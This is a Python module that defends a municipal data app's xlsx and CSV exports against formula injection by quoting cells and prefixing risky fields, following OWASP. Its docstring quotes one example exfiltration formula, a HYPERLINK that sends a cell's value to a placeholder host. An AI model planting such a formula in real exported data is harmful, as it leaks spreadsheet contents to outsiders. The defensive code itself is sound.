"""Text that the app writes into a workbook or a CSV file stays text: no formula ever comes
from data.

A name such as ``=HYPERLINK("http://x/?d="&E9,"ver")`` or an association ``=1+1`` would be
a live formula in a spreadsheet; values that start with ``+``, ``-`` or ``@`` (and a tab or a
carriage return before any of them) are read as formulas too when a cell is edited or a CSV
opened.  OWASP's advice for CSV/spreadsheet injection, applied here:

- **xlsx**: such a value is written as a string cell (never a ``<f>`` formula, never an
  error code such as ``#N/A``) with the *quote prefix* of its style, the flag Excel and
  LibreOffice set when a person types ``'=1+1``: the cell shows exactly the text and stays
  text when it is edited.  Characters that XML cannot hold (control characters other than
  tab, line feed and carriage return) are dropped: they are invisible anyway.
- **CSV**: the field gets OWASP's leading single quote (``'=1+1``); ``csv_writer`` also quotes
  every field, as OWASP asks.

Every writer of the app (the municipal summary, the padrón, the import templates) puts its
text through ``text_cell`` or ``protect``; a CSV writer through ``csv_writer``.  openpyxl is
imported only when a cell is made.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

# what a spreadsheet may read as the start of a formula (OWASP's list)
FORMULA_LEADS = frozenset("=+-@\t\r")
# what XML 1.0 cannot carry (openpyxl refuses it)
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def looks_like_formula(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_LEADS


def clean(text: str) -> str:
    """``text`` without the control characters a workbook cannot hold."""
    return _ILLEGAL.sub("", text)


def protect(cell: Any) -> Any:
    """Makes an openpyxl cell holding text hold it as text, whatever the text begins with;
    returns the cell.  Other values (numbers, dates, None) are left as they are."""
    value = cell.value
    if not isinstance(value, str):
        return cell
    if _ILLEGAL.search(value):
        cell.value = value = clean(value)
    if cell.data_type != "s":  # openpyxl took it for a formula ("=…") or an error ("#N/A")
        cell.data_type = "s"
        cell.quotePrefix = True
    elif looks_like_formula(value):
        cell.quotePrefix = True
    return cell


def needs_protection(value: Any) -> bool:
    """True when ``value`` is text that must not be written as a bare value."""
    if not isinstance(value, str) or not value:
        return False
    from openpyxl.cell.cell import ERROR_CODES

    return looks_like_formula(value) or value in ERROR_CODES or bool(_ILLEGAL.search(value))


def text_cell(ws: Any, value: Any, style: str | None = None) -> Any:
    """What to give a write-only worksheet's ``append`` for ``value``: the value itself when
    it is safe as it is and unstyled, else a cell (text protected, named ``style`` set)."""
    if style is None and not needs_protection(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=clean(value) if isinstance(value, str) else value)
    if style is not None:
        cell.style = style
    return protect(cell)


def put(ws: Any, row: int, column: int, value: Any) -> Any:
    """``ws.cell(row, column, value)`` of an ordinary worksheet, with the text protected."""
    cell = ws.cell(row, column)
    cell.value = clean(value) if isinstance(value, str) else value
    return protect(cell)


def csv_field(value: Any) -> Any:
    """A CSV field: text that could start a formula gets OWASP's leading single quote."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_field(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: IO[str], **kwargs: Any) -> _SafeWriter:
    """``csv.writer`` that quotes every field and neutralises formulas (OWASP)."""
    kwargs.setdefault("quoting", csv.QUOTE_ALL)
    return _SafeWriter(csv.writer(fh, **kwargs))
